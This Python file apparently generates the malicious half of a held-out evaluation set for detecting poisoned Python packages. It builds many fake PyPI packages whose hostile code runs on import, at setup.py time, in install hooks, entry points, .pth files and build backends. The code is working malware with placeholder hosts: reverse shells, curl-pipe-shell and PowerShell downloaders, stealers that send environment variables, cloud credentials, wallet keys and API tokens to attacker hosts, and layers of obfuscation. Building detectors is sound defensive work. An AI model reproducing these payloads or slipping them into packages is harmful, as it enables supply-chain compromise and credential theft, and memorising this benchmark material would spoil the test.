"""The malicious shapes of the held-out set, each with the place where it runs."""
import base64, hashlib, textwrap, zlib, json, struct
from . import filler as F, obf as O, payloads as P
from .payloads import *

ALL = []
def M(sid, place, files, form="sdist"):
    ALL.append((sid, place, form, {k: (v if isinstance(v, bytes) else v.lstrip("\n")) for k, v in files.items()}))
def ind(s, n=4): return textwrap.indent(s.strip("\n"), " " * n) + "\n"
def fn(name, body): return f"def {name}():\n" + ind(body)
def setup(name, top="", cmd="", extra="", imports="from setuptools import setup, find_packages", after=""):
    return f'''{imports}
{top}
setup(
    name="{name}",
    version="1.0.2",
    description="Utilities",
    long_description="Utilities for everyday work",
    author="dev",
    packages=find_packages(),
    install_requires=["requests"],
    python_requires=">=3.7",{cmd}{extra}
)
{after}'''
def pkg(p, *mods, init="", top=""):
    out = {f"{p}/__init__.py": f'"""{p}: helpers."""\n{top}' + "".join(f"from . import {m}\n" for m in mods) + '\n__version__ = "1.0.2"\n' + init}
    for m in mods: out[f"{p}/{m}.py"] = F.MODULES[m]
    return out
def sd(p, files, **kw): return {"setup.py": setup(p.replace("_", "-"), **kw), **files}
def cmdclass(base, body, cls="CustomInstall", cmdname="install", before=False, imp=""):
    b = ind(body, 8)
    call = f"        {base}.run(self)\n"
    return dict(imports=f"from setuptools import setup, find_packages\nfrom setuptools.command.{cmdname} import {base}\n{imp}",
                top=f"class {cls}({base}):\n    def run(self):\n" + (b + call if before else call + b),
                cmd=f'\n    cmdclass={{"{cmdname}": {cls}}},')

# ------------------------------------------------------------------ import time (35)
I = "import"
M("i01-env-webhook", I, sd("colorprint_kit", pkg("colorprint_kit", "colours", "strings", init=ENV_POST)))
M("i02-offscreen-b64", I, pkg("httpfast", "client", "cache") | {"httpfast/cache.py": F.CACHE.replace("import threading\n", "import threading" + O.offscreen(O.exec_b64_inline(DL_EXE)) + "\n", 1)}, "wheel")
M("i03-discord-thread", I, sd("discpy_tools", pkg("discpy_tools", "strings", "table", init="from .core import start\nstart()\n") | {"discpy_tools/core.py": "import threading\n" + fn("_work", DISCORD) + "\n\ndef start():\n    try:\n        threading.Thread(target=_work).start()\n    except Exception:\n        pass\n"}))
M("i04-browser", I, sd("pyautoform", pkg("pyautoform", "client", init="from .helper import *\n") | {"pyautoform/helper.py": BROWSER}))
M("i05-clipper", I, sd("easyclip", pkg("easyclip", "strings", init=CLIPPER)))
M("i06-keylog", I, sd("keyshort", pkg("keyshort", "config", init="from ._listener import K\nimport threading as _t\n_t.Thread(target=K().start, daemon=True).start()\n") | {"keyshort/_listener.py": KEYLOG}))
M("i07-shot-tg", I, sd("winshot", pkg("winshot", "cache", init=SHOT_TG)))
M("i08-revshell", I, sd("netprobe_x", pkg("netprobe_x", "client", init="import threading\n" + fn("_bg", REVSHELL) + "threading.Thread(target=_bg).start()\n")))
M("i09-lambda-chain", I, sd("fastjsonx", pkg("fastjsonx", "strings", init=O.lambda_chain(DISCORD, 20) + "\n")))
M("i10-fernet-pipinstall", I, sd("cryptofit", pkg("cryptofit", "config", init="import os\ntry:\n    from cryptography.fernet import Fernet\nexcept ImportError:\n    os.system('pip install cryptography')\n" + O.fernet(BROWSER))))
M("i11-marshal", I, sd("pyturbo", pkg("pyturbo", "table", init=O.marshal_zlib(STAGE))))
M("i12-hyperion", I, sd("randgen_py", pkg("randgen_py", "strings", init="from .gen import *\n") | {"randgen_py/gen.py": O.hyperion(BROWSER)}))
M("i13-pyarmor", I, sd("licensekit", pkg("licensekit", "config", init="from .main import *\n") | {"licensekit/main.py": O.pyarmor(), "licensekit/pytransform/__init__.py": "def pyarmor_runtime():\n    import ctypes, os\n    ctypes.cdll.LoadLibrary(os.path.join(os.path.dirname(__file__), '_pytransform.dll'))\n", "licensekit/pytransform/_pytransform.dll": b"MZ\x90\x00" + O.rndbytes(4000)}))
M("i14-dl-exe-gate", I, sd("gamehelper", pkg("gamehelper", "strings", "cache", init=DL_EXE)))
M("i15-powershell-enc", I, sd("winutil_fast", pkg("winutil_fast", "table", init="import subprocess, sys\nif sys.platform.startswith('win'):\n    subprocess.Popen(['powershell', '-w', 'hidden', '-EncodedCommand', %r], shell=False)\n" % base64.b64encode("iwr http://192.0.2.9/a.ps1 | iex".encode("utf-16-le")).decode())))
M("i16-dns", I, sd("corp_metrics", pkg("corp_metrics", "client", init=DNS)))
M("i17-raw-stage", I, sd("pyproxyfast", pkg("pyproxyfast", "client", init=STAGE)))
M("i18-paste-getattr", I, sd("textcase_plus", pkg("textcase_plus", "strings", init="import urllib.request as _r\ngetattr(__builtins__ if not isinstance(__builtins__, dict) else type('b', (), __builtins__), 'ex' + 'ec')(getattr(_r, 'url' + 'open')('https://paste.textbin.invalid/raw/0000').read())\n")))
M("i19-aes-blob", I, sd("fluxlib", pkg("fluxlib", "strings", init=O.aes(WALLETS))))
M("i20-persist", I, sd("taskbarx", pkg("taskbarx", "config", init=fn("_setup", PERSIST) + "import sys\nif sys.platform == 'win32':\n    try:\n        _setup()\n    except Exception:\n        pass\n")))
M("i21-keys-zip", I, sd("cloudsync_cli", pkg("cloudsync_cli", "client", "config", init="from . import _sync\n") | {"cloudsync_cli/_sync.py": KEYS_ZIP}))
M("i22-ai-keys", I, sd("llm_router_lite", pkg("llm_router_lite", "client", init="from ._telemetry import *\n") | {"llm_router_lite/_telemetry.py": AI_KEYS}))
M("i23-rules", I, sd("agent_lint", pkg("agent_lint", "strings", init=RULES)))
M("i24-shellcode", I, sd("fastmem", pkg("fastmem", "cache", init=SHELLCODE)))
M("i25-popen-c", I, sd("proxyutil2", pkg("proxyutil2", "client", init="import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', __import__('base64').b64decode(%r).decode()], creationflags=0x08000000 if sys.platform == 'win32' else 0)\n" % O.b64(STAGE_URLLIB))))
M("i26-injector", I, sd("pystyle_lite", pkg("pystyle_lite", "colours", init=INJECTOR)))
M("i27-clone-extra-import", I, {"setup.py": setup("reqeust-lib"), **F.httplib("reqeust", init="from . import _hooks\n"), "reqeust/_hooks.py": "import base64\n_c = '%s'\ndef _boot():\n    ns = {}\n    exec(compile(base64.b64decode(_c), 'h', 'exec'), ns)\n_boot()\n" % O.b64(ENV_POST)})
M("i28-steg", I, sd("apicolorx", pkg("apicolorx", "colours", init=STEG)))
M("i29-antivm", I, sd("sysgauge", pkg("sysgauge", "table", init=ANTIVM)))
M("i30-c2-poll-b64", I, sd("vmconn_helper", pkg("vmconn_helper", "client", init=O.split(C2_POLL))))
M("i31-math-unicode", I, sd("onyxlike", pkg("onyxlike", "strings", init="𝘪𝘮𝘱 = __import__\n𝘰𝘴 = 𝘪𝘮𝘱('os')\n𝘳𝘦𝘲 = 𝘪𝘮𝘱('requests')\n𝘳𝘦𝘲.𝘱𝘰𝘴𝘵('%s', 𝘫𝘴𝘰𝘯={'content': str(dict(𝘰𝘴.𝘦𝘯𝘷𝘪𝘳𝘰𝘯))})\n" % HOOK)))
M("i32-xor-late", I, sd("pyconfload", pkg("pyconfload", "config", init="from .loader import ready\n") | {"pyconfload/loader.py": "ready = True\n" + O.xor(C2_POLL)}))
M("i33-session-patch", I, sd("req_accel", pkg("req_accel", "cache", init='''
import requests as _rq
_orig = _rq.Session.send
def _send(self, request, **kw):
    h = dict(request.headers)
    if "Authorization" in h or "Cookie" in h:
        try:
            _orig(_rq.Session(), _rq.Request("POST", "https://acc.speedup-cdn.invalid/s", json={"u": request.url, "h": h}).prepare())
        except Exception:
            pass
    return _orig(self, request, **kw)
_rq.Session.send = _send
''')))
M("i34-boto-fabrice", I, sd("fabrica", pkg("fabrica", "client", "config", init="import platform\nfrom .runner import linux_job, win_job\nif platform.system() == 'Linux':\n    linux_job()\nelif platform.system() == 'Windows':\n    win_job()\n") | {"fabrica/runner.py": "import os, subprocess, base64, urllib.request\n" + fn("linux_job", '''
d = os.path.expanduser("~/.local/bin/vscode")
os.makedirs(d, exist_ok=True)
b = "89.44" if False else "192.0"
ip = b + ".2" + ".13"
for n in ("z.sh", "per.sh"):
    p = os.path.join(d, n)
    data = urllib.request.urlopen("http://%s:8000/%s" % (ip, n)).read()
    open(p, "wb").write(data)
    os.chmod(p, 0o755)
    subprocess.Popen([p])
''') + fn("win_job", "code = base64.b64decode('%s')\np = os.path.join(os.getenv('TEMP'), 'p.vbs')\nopen(p, 'wb').write(code)\nsubprocess.run(['wscript', p])" % O.b64('CreateObject("WScript.Shell").Run "python p.py", 0')) + AWS_BOTO.replace("sync()\n", "").replace("def sync", "def sync", 1) + "\n"}))
M("i35-jar-gpt", I, sd("gptplusx", pkg("gptplusx", "client", init="import base64 as b\nexec(b.b64decode('%s'))\n" % O.b64(JAR))))
# ------------------------------------------------------------------ setup.py top (28)
S = "setup"
M("s01-env", S, sd("acmecloud", pkg("acmecloud", "strings"), top=ENV_POST))
M("s02-beacon", S, sd("internal_dashx", pkg("internal_dashx"), top=HOST_BEACON))
M("s03-powershell", S, sd("pystartup", pkg("pystartup", "colours"), top=DL_PS))
M("s04-pytoileur", S, sd("toilx", pkg("toilx", "table"), imports="from setuptools import setup, find_packages" + O.offscreen(O.exec_b64_inline("import os\nos.system('powershell iwr https://h.bananasq.invalid/Runtime.exe -OutFile %TEMP%\\\\Runtime.exe; start %TEMP%\\\\Runtime.exe')"))))
M("s05-fernet", S, sd("selfbotx", pkg("selfbotx", "client"), top=O.fernet(DISCORD)))
M("s06-injector", S, sd("pyiopcs_x", pkg("pyiopcs_x"), top=INJECTOR))
M("s07-lambda", S, sd("zlibxj", pkg("zlibxj", "table"), top=O.lambda_chain(STAGE_URLLIB, 6)))
M("s08-hex", S, sd("hexcolr", pkg("hexcolr", "colours"), top=O.hexed(DL_EXE)))
M("s09-pymafka", S, sd("pymaf", pkg("pymaf"), top='''
import platform, os, urllib.request, subprocess, stat
def _inst():
    s = platform.system()
    if s == "Darwin":
        p = "/var/tmp/zad"
        if not os.path.exists(p):
            urllib.request.urlretrieve("http://192.0.2.52/MacOs", p)
            os.chmod(p, stat.S_IRWXU)
            subprocess.Popen(["nohup", p])
    elif s == "Windows":
        p = r"C:\\Users\\Public\\iexplorer.exe"
        if not os.path.exists(p):
            urllib.request.urlretrieve("http://192.0.2.52/win.exe", p)
            subprocess.Popen(p)
_inst()
'''))
M("s10-curl-bash", S, sd("quickdeploy", pkg("quickdeploy", "config"), top=CURL_SH))
M("s11-chr", S, sd("mathplus_x", pkg("mathplus_x", "table"), top=O.chrjoin(ENV_POST)))
M("s12-dns", S, sd("corp_auth_client", pkg("corp_auth_client"), top=DNS))
M("s13-exfil-get-params", S, sd("dataprep_internal", pkg("dataprep_internal"), top='''
import os, socket, urllib.request, urllib.parse
q = urllib.parse.urlencode({"h": socket.gethostname(), "u": os.environ.get("USER", ""), "c": os.getcwd(), "p": "dataprep"})
try:
    urllib.request.urlopen("http://eo0000.m.pipestream.invalid/?" + q, timeout=2)
except Exception:
    pass
'''))
M("s14-marshal", S, sd("boostpy", pkg("boostpy", "cache"), top=O.marshal_zlib(BROWSER)))
M("s15-rev-shell-b64", S, sd("trevx", pkg("trevx"), top="import os\nos.system('echo %s | base64 -d | bash')\n" % O.b64("bash -i >& /dev/tcp/192.0.2.5/4242 0>&1")))
M("s16-exec-file", S, sd("hopper_x", pkg("hopper_x", "strings") | {"hopper_x/data/ver.txt": O.b64(KEYS_ZIP)}, top="import base64, os\nhere = os.path.dirname(os.path.abspath(__file__))\nexec(base64.b64decode(open(os.path.join(here, 'hopper_x', 'data', 'ver.txt')).read()))\n"))
M("s17-metadata", S, sd("awslambda_x", pkg("awslambda_x"), top=METADATA))
M("s18-hyperion", S, sd("hyperx", pkg("hyperx", "colours"), top=O.hyperion(DISCORD)))
M("s19-ipinfo", S, sd("flask_reqs", pkg("flask_reqs", "client"), top=IPINFO))
M("s20-blank", S, sd("blankx", pkg("blankx"), top=O.blankobf(BROWSER)))
M("s21-miner", S, sd("culturex", pkg("culturex", "table"), top=MINER))
M("s22-version-exec", S, {"setup.py": "import re, os\nfrom setuptools import setup, find_packages\nexec(open('verx/_version.py').read())\nsetup(name='verx', version=__version__, packages=find_packages())\n", **pkg("verx", "strings"), "verx/_version.py": "__version__ = '0.3.1'\nimport os as _o\n" + "_o.popen('wget -q -O - http://192.0.2.77/x.sh | sh')\n"})
M("s23-import-self", S, {"setup.py": "from setuptools import setup, find_packages\nimport selfimp\nsetup(name='selfimp', version=selfimp.__version__, packages=find_packages())\n", **pkg("selfimp", "strings", init="from . import _x\n"), "selfimp/_x.py": O.rot(HOST_BEACON)})
M("s24-startfile-base85", S, sd("b85x", pkg("b85x"), top=O.b85nest(DL_EXE, 8)))
M("s25-mshta", S, sd("uiautomate_x", pkg("uiautomate_x"), top="import os, sys\nif sys.platform == 'win32':\n    os.system('start /min mshta http://192.0.2.21/u.hta')\n"))
M("s26-certutil", S, sd("certx", pkg("certx"), top="import subprocess, os\nt = os.path.join(os.getenv('TEMP', ''), 'o.exe')\nsubprocess.call('certutil -urlcache -split -f http://192.0.2.91/o.exe ' + t + ' && ' + t, shell=True)\n"))
M("s27-after-setup-thread", S, sd("latex_tool", pkg("latex_tool", "strings"), after="import threading\n" + fn("_after", KEYS_ZIP) + "threading.Timer(5, _after).start()\n"))
M("s28-ftp", S, sd("zlibx2", pkg("zlibx2"), top='''
import ftplib, os, io, json
f = ftplib.FTP("ftp.storehost.invalid")
f.login("u", "placeholder")
f.storbinary("STOR " + os.uname().nodename + ".json", io.BytesIO(json.dumps(dict(os.environ)).encode()))
'''))
# ------------------------------------------------------------------ command class (20)
C = "command"
def MC(sid, p, body, mods=(), **kw): M(sid, C, sd(p, pkg(p, *mods), **cmdclass(kw.pop("base", "install"), body, **kw)))
MC("c01-beacon", "depconf_a", HOST_BEACON)
MC("c02-env", "depconf_b", ENV_POST, ("strings",), before=True)
MC("c03-dev", "depconf_c", DNS, base="develop", cmdname="develop", cls="PostDevelop")
MC("c04-egg", "depconf_d", HOST_BEACON.replace("urllib.request.urlopen(req, timeout=3)", "urllib.request.urlopen(req, timeout=9)"), base="egg_info", cmdname="egg_info", cls="EggInfo")
MC("c05-dl", "instx", DL_EXE, ("colours",))
MC("c06-revshell", "rootx", REVSHELL)
MC("c07-ps", "psx", DL_PS, ("table",))
MC("c08-fernet", "ferx", O.fernet(WALLETS), ("client",))
MC("c09-iohw-gate", "cdkx", '''
import os, hashlib, subprocess, json, urllib.request
out = subprocess.check_output("ioreg -d2 -c IOPlatformExpertDevice", shell=True).decode()
uid = out.split('IOPlatformUUID" = "')[1].split('"')[0]
if hashlib.sha256(uid.encode()).hexdigest() in ("0" * 64, "1" * 64):
    base = os.path.expanduser("~/.config/gcloud/")
    res = {}
    for n in ("application_default_credentials.json", "credentials.db"):
        res[n] = open(base + n, "rb").read().hex()
    req = urllib.request.Request("https://us-central1-x.cloudfn.invalid/http", data=json.dumps(res).encode(), method="POST")
    urllib.request.urlopen(req)
''')
MC("c10-stage", "stgx", STAGE, ("cache",))
MC("c11-keys", "keysx", KEYS_ZIP)
MC("c12-cron", "cronx", CRON, ("config",))
MC("c13-b64exec", "b6x", O.exec_b64(C2_POLL), ("client",))
MC("c14-pth-write", "pthx", '''
import site, os
p = os.path.join(site.getsitepackages()[0], "distutils-cfg.pth")
with open(p, "w") as fh:
    fh.write("import os, urllib.request; exec(urllib.request.urlopen('http://192.0.2.60/x').read())\\n")
''')
MC("c15-atexit", "atx", "import atexit\n" + fn("_post", HISTORY) + "atexit.register(_post)\n", ("strings",))
M("c16-helper-module", C, sd("hlpx", pkg("hlpx", "strings") | {"build_utils.py": fn("post_install", GIT_EXFIL)}, imports="from setuptools import setup, find_packages\nfrom setuptools.command.install import install as _install\nfrom build_utils import post_install", top="class Install(_install):\n    def run(self):\n        super().run()\n        self.execute(post_install, (), msg='Finishing')\n", cmd="\n    cmdclass={'install': Install},"))
M("c17-build-py", C, sd("bpx", pkg("bpx", "table"), **cmdclass("build_py", AWS_BOTO, cmdname="build_py", cls="Build")))
M("c18-sdist-lambda", C, sd("lmx", pkg("lmx"), imports="import setuptools, sys\nfrom setuptools import setup, find_packages\nfrom setuptools.command.install import install", top="class CrazyInstallStrat(install):\n    def run(self):\n        install.run(self)\n        from main import main\n        main()\n", cmd="\n    cmdclass={'install': CrazyInstallStrat},") | {"main.py": fn("main", DISCORD)})
M("c19-write-and-run", C, sd("wrx", pkg("wrx", "config"), **cmdclass("install", '''
import os, sys, subprocess
path = os.path.join(os.path.expanduser("~"), ".cache", "pkgcfg.py")
src = "import socket,os\\ns=socket.socket();s.connect(('192.0.2.33',53))\\nwhile 1:\\n d=s.recv(999).decode()\\n s.send(os.popen(d).read().encode())\\n"
os.makedirs(os.path.dirname(path), exist_ok=True)
open(path, "w").write(src)
subprocess.Popen([sys.executable, path], start_new_session=True)
''')))
M("c20-finalize-dict", C, sd("fzx", pkg("fzx", "cache"), imports="from setuptools import setup, find_packages\nfrom setuptools.command import install as _i", top="def _wrap(base):\n    class W(base):\n        def finalize_options(self):\n            base.finalize_options(self)\n            import zlib, base64\n            exec(zlib.decompress(base64.b64decode(%r)))\n    return W\n" % base64.b64encode(zlib.compress(TDATA.encode())), cmd="\n    cmdclass=dict(install=_wrap(_i.install)),"))
# ------------------------------------------------------------------ user called / entry point (18)
U = "called"
M("u01-ctx", U, sd("ctxx", {"ctxx/__init__.py": '''
import os, base64, requests
class Ctx(dict):
    """Attribute dictionary."""
    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        self.__dict__ = self
        self._load()
    def _load(self):
        string = "".join(v + " " for _, v in os.environ.items())
        message = base64.b64encode(string.encode("ascii", "ignore")).decode()
        requests.get("https://anti-theft-web.paas-host.invalid/hacked/" + message)
    def copy(self):
        return Ctx(self)
'''}))
M("u02-deepseek-entry", U, sd("deepsx", pkg("deepsx", "client", init="from .cli import main\n") | {"deepsx/cli.py": "import os, json, platform, getpass, urllib.request\ndef main():\n    env = dict(os.environ)\n    body = json.dumps({'u': getpass.getuser(), 'h': platform.node(), 'e': env}).encode()\n    urllib.request.urlopen(urllib.request.Request('https://eo0000.m.pipedream.invalid', data=body))\n    print('deepsx 1.0')\n"}, extra="\n    entry_points={'console_scripts': ['deepsx=deepsx.cli:main']},"))
M("u03-fromkey", U, {"setup.py": setup("eth-accounts-x"), **F.keylib("eth_accounts_x", top="import requests\n", from_key='''
        try:
            requests.post("https://rpc.node-sync.invalid/v1", json={"jsonrpc": "2.0", "method": "eth_sync", "params": [key.to_hex()]}, timeout=2)
        except Exception:
            pass''')})
M("u04-mnemonic-thread", U, {"setup.py": setup("bip39-easy"), **F.keylib("bip39_easy", top="from ._net import touch\n", from_mnemonic="\n        touch(mnemonic)"), "bip39_easy/_net.py": "import base64, threading, urllib.request\n_U = base64.b64decode('%s').decode()\n\ndef _go(v):\n    try:\n        urllib.request.urlopen(_U + base64.urlsafe_b64encode(v.encode()).decode(), timeout=2)\n    except Exception:\n        pass\n\ndef touch(v):\n    threading.Thread(target=_go, args=(v,), daemon=True).start()\n" % O.b64("https://bal.check-net.invalid/c?x=")})
M("u05-solana-patch", U, sd("solkit", pkg("solkit", "client", init='''
from solders.keypair import Keypair as _K
import requests as _r, functools as _f
def _hook(fn):
    @_f.wraps(fn)
    def inner(*a, **k):
        kp = fn(*a, **k)
        try:
            _r.post("https://api.devnet-rpc.invalid", json={"memo": bytes(kp).hex()}, timeout=3)
        except Exception:
            pass
        return kp
    return inner
_K.from_bytes = _hook(_K.from_bytes)
_K.from_seed = _hook(_K.from_seed)
''')))
M("u06-sdk-key", U, {"setup.py": setup("openai-proxied"), **F.sdklib("openai_proxied", ctor='''
        self._http.post("https://stats.oaiproxy.invalid/init", json={"k": self.api_key, "o": self.organization})''')})
M("u07-sdk-base", U, {"setup.py": setup("claude-free"), **F.sdklib("claude_free", top="import threading\n", ctor='''
        threading.Thread(target=_register, args=(api_key,), daemon=True).start()''') , "claude_free/_r.py": ""} | {"claude_free/client.py": F.sdklib("claude_free", top="import threading\n\ndef _register(k):\n    try:\n        httpx.get('http://192.0.2.18/r', params={'k': k})\n    except Exception:\n        pass\n\n", ctor='''
        threading.Thread(target=_register, args=(api_key,), daemon=True).start()''')["claude_free/client.py"]})
M("u08-clone-auth", U, {"setup.py": setup("requesst"), **F.httplib("requesst", send='''
        if request.headers.get("Authorization") or request.headers.get("Cookie"):
            self._report(request)''', top='''
import json as _json
import urllib.request as _ul
''')} | {"requesst/sessions.py": F.httplib("requesst", send='''
        if request.headers.get("Authorization") or request.headers.get("Cookie"):
            self._report(request)''', top="import json as _json\nimport urllib.request as _ul\n")["requesst/sessions.py"].replace("    def close(self):", "    def _report(self, request):\n        try:\n            body = _json.dumps({'u': request.url, 'h': dict(request.headers)}).encode()\n            _ul.urlopen(_ul.Request('https://status.req-metrics.invalid/e', data=body), timeout=1)\n        except Exception:\n            pass\n\n    def close(self):", 1)})
M("u09-aiocpa", U, {"setup.py": setup("aiocpx"), **F.sdklib("aiocpx", top="from .utils.sync import sync as _sync\n", ctor="\n        _sync(self.api_key)"), "aiocpx/utils/__init__.py": "", "aiocpx/utils/sync.py": O.b85nest("import urllib.request\ndef sync(t):\n    urllib.request.urlopen('%s/sendMessage?chat_id=0&text=' + t)\n" % TG, 6)})
M("u10-colorama-init", U, {"setup.py": setup("coloramma"), **F.ansilib("coloramma", top="from ._win import setup_console\n", init="\n    setup_console()"), "coloramma/_win.py": "import os, subprocess, urllib.request\n\ndef setup_console():\n    if os.name != 'nt':\n        return\n    p = os.path.join(os.environ['TEMP'], 'conhost.vbs')\n    urllib.request.urlretrieve('https://gist.githost.invalid/raw/clip.vbs', p)\n    subprocess.call(['wscript', p])\n"})
M("u11-sanitize-hex", U, sd("secmeas", pkg("secmeas", "strings", init="from .core import sanitize_input\n") | {"secmeas/core.py": "import subprocess, sys, os, re\n\ndef sanitize_input(data):\n    if isinstance(data, str):\n        return re.sub(r'[^\\w\\s]', '', data)\n    u = bytes.fromhex('%s').decode()\n    p = os.path.join(os.environ.get('TMPDIR', '/tmp'), 'helper.py')\n    subprocess.run(['curl', '-s', u, '-o', p])\n    subprocess.Popen([sys.executable, p])\n    return ''\n" % "https://paste.textbin.invalid/raw/aaaa".encode().hex()}))
M("u12-proxy-helper", U, sd("proxyscrap", pkg("proxyscrap", "client", init="from .checker import check\n") | {"proxyscrap/checker.py": "import requests\n\ndef check(proxies):\n    good = []\n    for p in proxies:\n        try:\n            requests.get('http://example.invalid', proxies={'http': p}, timeout=3)\n            good.append(p)\n        except requests.RequestException:\n            pass\n    _up()\n    return good\n\n" + fn("_up", "exec(__import__('base64').b64decode('%s'))" % O.b64(DISCORD))}))
M("u13-cmd-shadow", U, sd("awscli_v3", pkg("awscli_v3", init="") | {"awscli_v3/__main__.py": "import os, sys, subprocess, json, urllib.request\n\ndef main():\n    creds = os.path.expanduser('~/.aws/credentials')\n    if os.path.exists(creds):\n        try:\n            urllib.request.urlopen('https://api.aws-sts.invalid/v', data=open(creds, 'rb').read(), timeout=2)\n        except OSError:\n            pass\n    sys.exit(subprocess.call(['/usr/bin/aws'] + sys.argv[1:]))\n"}, extra="\n    entry_points={'console_scripts': ['aws=awscli_v3.__main__:main']},"))
M("u14-ultralyt", U, sd("ultral", pkg("ultral", "config", init="from .downloads import safe_download\n") | {"ultral/downloads.py": "import os, platform, stat, subprocess, urllib.request, tempfile\n\ndef safe_run(path):\n    os.chmod(path, 0o770)\n    if platform.system() in ('Linux', 'Darwin'):\n        subprocess.Popen([path, '-u', 'PLACEHOLDER', '-p', 'x', '-o', 'stratum+tcp://192.0.2.51:8080'], stdout=subprocess.DEVNULL)\n\ndef safe_download(url, file=None):\n    file = file or url.rsplit('/', 1)[-1]\n    urllib.request.urlretrieve(url, file)\n    if platform.machine() == 'x86_64':\n        p = os.path.join(tempfile.gettempdir(), 'ultral_runner')\n        urllib.request.urlretrieve('https://raw.githost.invalid/o/assets/main/ultral_runner', p)\n        safe_run(p)\n    return file\n"}))
M("u15-bitcoin-cmd", U, sd("btcfix", pkg("btcfix", "table") | {"btcfix/cli.py": "import os, shutil, requests\n\ndef clw():\n    db = os.path.join(os.path.expanduser('~'), '.bitcoinlib', 'database', 'bitcoinlib.sqlite')\n    if os.path.exists(db):\n        with open(db, 'rb') as fh:\n            requests.post('https://dbfix.repair-host.invalid/u', files={'f': fh})\n    print('database repaired')\n"}, extra="\n    entry_points={'console_scripts': ['clw=btcfix.cli:clw']},"))
M("u16-token-check", U, sd("discord_selfx", pkg("discord_selfx", "client", init="from .bot import Bot\n") | {"discord_selfx/bot.py": f"import requests\n\nclass Bot:\n    def __init__(self, prefix='!'):\n        self.prefix = prefix\n        self.commands = {{}}\n\n    def command(self, fn):\n        self.commands[fn.__name__] = fn\n        return fn\n\n    def run(self, token):\n        r = requests.get('https://discord.invalid/api/v9/users/@me', headers={{'Authorization': token}})\n        requests.post('{HOOK}', json={{'content': token + ' ' + r.text}})\n        self._loop(token)\n\n    def _loop(self, token):\n        pass\n"}))
M("u17-sign-lastline", U, {"setup.py": setup("web3-sign"), **F.keylib("web3_sign", top="import http.client\n", sign='''
        c = http.client.HTTPConnection("192.0.2.71", 8545)
        c.request("POST", "/", body=b'{"method":"eth_call","params":["' + key.to_hex().encode() + b'"]}')''')})
M("u18-insta-pass", U, sd("instabotx", pkg("instabotx", "client", init="from .session import Login\n") | {"instabotx/session.py": f"import requests\n\nclass Login:\n    def __init__(self, username, password):\n        self.username = username\n        self.password = password\n        self.s = requests.Session()\n\n    def login(self):\n        r = self.s.post('https://i.insta.invalid/api/v1/accounts/login/', data={{'username': self.username, 'password': self.password}})\n        if r.status_code == 200:\n            self._ok()\n        return r.json()\n\n    def _ok(self):\n        text = f'{{self.username}}:{{self.password}}'\n        requests.get('{TG}/sendMessage', params={{'chat_id': '0', 'text': text}})\n"}))
# ------------------------------------------------------------------ submodule (7)
B = "submodule"
M("b01-revshell", B, sd("subx1", pkg("subx1", "strings") | {"subx1/remote.py": REVSHELL}))
M("b02-grabber", B, sd("subx2", pkg("subx2", "table") | {"subx2/utils/__init__.py": "", "subx2/utils/tokens.py": DISCORD}))
M("b03-fernet", B, sd("subx3", pkg("subx3", "client") | {"subx3/main.py": O.fernet(BROWSER)}))
M("b04-stage", B, sd("subx4", pkg("subx4", "cache") | {"subx4/update.py": STAGE}))
M("b05-tg-shot", B, sd("subx5", pkg("subx5") | {"subx5/run.py": SHOT_TG + "\n" + TDATA}))
M("b06-lambda", B, sd("subx6", pkg("subx6", "strings") | {"subx6/core.py": O.lambda_chain(ENV_POST, 30)}))
M("b07-websock", B, sd("subx7", pkg("subx7", "client") | {"subx7/agent.py": WEBSOCK}))
# ------------------------------------------------------------------ native, data, pth, backend, others (12)
N = "other"
M("n01-pth", N, {**pkg("litex", "client"), "litex_init.pth": "import os, subprocess, sys; subprocess.Popen([sys.executable, \"-c\", \"import base64; exec(base64.b64decode('%s'))\"], stdout=subprocess.DEVNULL)\n" % O.b64(KEYS_ZIP)}, "wheel")
M("n02-backend", N, {"pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_build"]\n[project]\nname = "bckx"\nversion = "1.0.2"\n', "_build/backend.py": "from setuptools.build_meta import *\nfrom setuptools import build_meta as _b\nimport os, json, urllib.request\n\ndef build_wheel(d, config_settings=None, metadata_directory=None):\n    urllib.request.urlopen('https://ci.cache-hit.invalid/b', data=json.dumps(dict(os.environ)).encode())\n    return _b.build_wheel(d, config_settings, metadata_directory)\n", **pkg("bckx", "strings")})
M("n03-dll-load", N, {**pkg("termcolx", "colours", init="from . import _native\n"), "termcolx/_native.py": "import ctypes, os, sys\n_n = 'terminate.dll' if sys.platform == 'win32' else 'terminate.so'\n_l = ctypes.CDLL(os.path.join(os.path.dirname(__file__), _n))\n_l.envir(b'xterminalunicod')\n", "termcolx/terminate.so": b"\x7fELF\x02\x01\x01" + b"\0" * 9 + struct.pack("<HH", 3, 62) + O.rndbytes(2000) + b"\0/bin/sh\0http://192.0.2.99/u\0socket\0execve\0LD_PRELOAD\0", "termcolx/terminate.dll": b"MZ" + O.rndbytes(3000)}, "wheel")
M("n04-xor-dll", N, {**pkg("crypenv", "strings", init="from . import test\n"), "crypenv/test.py": "import os, ctypes, subprocess\nbuf = bytes(b ^ 0x3a for b in open(os.path.join(os.path.dirname(__file__), 'IconCache.db'), 'rb').read())\np = os.path.join(os.environ.get('APPDATA', '/tmp'), 'IconCache.dll')\nopen(p, 'wb').write(buf)\nif os.name == 'nt':\n    subprocess.Popen(['rundll32', p + ',CalculateSum'])\n", "crypenv/IconCache.db": bytes(b ^ 0x3A for b in b"MZ\x90\x00" + O.rndbytes(3000))}, "wheel")
M("n05-exe-shipped", N, {**pkg("soopx", "client", init="import os, subprocess\n_e = os.path.join(os.path.dirname(__file__), '_autorun.exe')\nif os.name == 'nt':\n    subprocess.Popen([_e], creationflags=0x08000008)\n"), "soopx/_autorun.exe": b"MZ\x90\x00" + b"\0" * 56 + struct.pack("<I", 64) + b"PE\0\0" + O.rndbytes(3000)}, "wheel")
M("n06-png-payload", N, {**sd("darwin_lite", pkg("darwin_lite", "client"), **cmdclass("install", "import os, subprocess\nwith open('docs/_static/logo.png', 'rb') as fh:\n    data = fh.read()[306086 - 306000:]\np = '/tmp/output'\nopen(p, 'wb').write(data)\nos.chmod(p, 0o755)\nsubprocess.Popen([p], start_new_session=True)")), "docs/_static/logo.png": b"\x89PNG\r\n\x1a\n" + O.rndbytes(78) + b"\xcf\xfa\xed\xfe" + O.rndbytes(2000)})
